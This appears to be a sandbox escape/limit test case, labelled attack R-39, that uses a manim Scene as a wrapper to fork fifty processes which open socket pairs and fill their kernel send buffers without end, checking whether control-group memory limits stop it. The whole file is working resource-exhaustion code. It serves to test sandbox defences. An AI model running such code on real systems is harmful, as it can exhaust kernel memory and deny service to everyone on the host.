# attack: R-39
# what: Hold kernel memory in the buffers of sockets.
# layer: control group
# static: rejected
# class: LIMIT_MEMORY
import os
import socket
import time

from manim import *


def reached(what):
    raise AssertionError(f"REACHED {what}")


class Attack(Scene):
    def construct(self):
        for _ in range(50):
            if os.fork() == 0:
                held = []
                try:
                    while True:
                        pair = socket.socketpair()
                        held.append(pair)
                        for end in pair:
                            end.setblocking(False)
                            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
                            try:
                                while True:
                                    end.send(bytes(1 << 16))
                            except BlockingIOError:
                                pass
                except OSError:
                    time.sleep(60)
        time.sleep(30)
        reached("all of it")
        self.wait(0.1)
